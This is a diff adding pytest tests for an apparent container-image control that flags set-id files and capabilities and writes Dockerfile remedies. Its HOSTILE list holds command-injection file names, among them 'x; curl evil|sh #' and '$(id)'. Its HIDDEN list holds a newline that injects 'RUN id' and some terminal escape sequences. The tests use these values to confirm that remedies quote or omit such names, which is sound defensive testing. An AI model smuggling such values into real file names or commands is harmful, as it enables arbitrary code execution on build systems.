@@ -1,5 +1,6 @@
 """Files that give their runner other rights fail 4.8; bits without effect are noted."""
 
+import shlex
 import struct
 
 import pytest
@@ -156,3 +157,85 @@ def test_worst_file_comes_first_and_many_are_removed_at_once() -> None:
 def test_windows_is_not_applicable() -> None:
     verdict = CONTROL.evaluate(image({}, os="windows"))
     assert (verdict.status, verdict.reason) == (Status.NOT_APPLICABLE, "windows-image")
+
+
+HOSTILE = ["x; curl evil|sh #", "$(id)", "`id`", "a b", "it's", 'a"b', "-rf", "a\\"]
+HIDDEN = ["x\nRUN id", "\u202ex", "\x1b[2Jx", "x" * 200]
+
+
+def _capable(*bits: int) -> File:
+    return File(ELF, mode=0o755, xattrs={"security.capability": _capabilities(*bits)})
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_hostile_name_is_one_word_of_the_remedy(name: str) -> None:
+    setid = CONTROL.evaluate(image({f"bin/{name}": _file(0o4755)})).remediation
+    assert shlex.split(setid) == ["RUN", "chmod", "a-s", f"/bin/{name}"]
+    capable = CONTROL.evaluate(image({f"bin/{name}": _capable(21)})).remediation
+    assert shlex.split(capable) == ["RUN", "setcap", "-r", f"/bin/{name}"]
+
+
+@pytest.mark.parametrize("name", HIDDEN)
+def test_name_that_cannot_be_shown_whole_is_left_out(name: str) -> None:
+    setid = CONTROL.evaluate(image({f"bin/{name}": _file(0o4755)})).remediation
+    assert setid == "RUN find / -xdev -perm /6000 -type f -exec chmod a-s {} +"
+    capable = CONTROL.evaluate(image({f"bin/{name}": _capable(21)})).remediation
+    assert capable.startswith("RUN find / -xdev -type f -exec setcap -r {} ")
+    assert capable.endswith("(1 file with capabilities)")
+
+
+@pytest.mark.parametrize(
+    ("count", "remedy"),
+    [
+        (2, "RUN setcap -r /bin/0 && setcap -r /bin/1"),
+        (3, "RUN setcap -r /bin/0 && setcap -r /bin/1 && setcap -r /bin/2"),
+        (
+            4,
+            (
+                r"RUN find / -xdev -type f -exec setcap -r {} \; 2>/dev/null "
+                "(4 files with capabilities)"
+            ),
+        ),
+    ],
+)
+def test_each_file_has_its_own_setcap(count: int, remedy: str) -> None:
+    verdict = CONTROL.evaluate(image({f"bin/{n}": _capable(21) for n in range(count)}))
+    assert verdict.remediation == remedy
+
+
+def test_summary_tells_the_authors_files_from_those_of_the_base() -> None:
+    rootfs = f"/bin/sh -c #(nop) ADD file:{'0' * 64} in / "
+    base: Layer = {"etc/hostname": b"", **{f"bin/{n}": _file(0o4755) for n in range(9)}}
+    own: Layer = {"app/a": _file(0o4755), "app/b": _file(0o4755), "app/c": _capable(21)}
+    history = [rootfs, "RUN make # buildkit"]
+    verdict = CONTROL.evaluate(image(base, own, history=history))
+    assert verdict.summary == "11 set-id files (2 author), 1 with capabilities (1 author)"
+    assert (len(verdict.summary) <= 60, verdict.origin) == (True, "author")
+    verdict = CONTROL.evaluate(image(base, {"app/c": _capable(21)}, history=history))
+    assert verdict.summary == "9 set-id files (base), 1 with capabilities (1 author)"
+    verdict = CONTROL.evaluate(image(base, {"app/c": b""}, history=history))
+    assert (verdict.summary, verdict.origin) == ("9 set-id files", "base")
+
+
+@pytest.mark.parametrize(
+    ("values", "reason", "summary"),
+    [
+        ([_capabilities(13)], "minor-capabilities", "1 file with minor capabilities"),
+        ([_capabilities(13)] * 2, "minor-capabilities", "2 files with minor capabilities"),
+        ([b"junk"], "capability-unreadable", "capability unreadable: 1 file"),
+        ([b"junk"] * 2, "capability-unreadable", "capability unreadable: 2 files"),
+        (
+            [_capabilities(13), b"junk", _capabilities(10)],
+            "minor-capabilities",
+            "1 file with minor capabilities, 1 unreadable",
+        ),
+    ],
+)
+def test_minor_capabilities_are_counted(values: list[bytes], reason: str, summary: str) -> None:
+    layer: Layer = {
+        f"bin/{n}": File(ELF, mode=0o755, xattrs={"security.capability": value})
+        for n, value in enumerate(values)
+    }
+    verdict = CONTROL.evaluate(image(layer))
+    assert (verdict.status, verdict.reason) == (Status.NEEDS_REVIEW, reason)
+    assert verdict.summary == summary
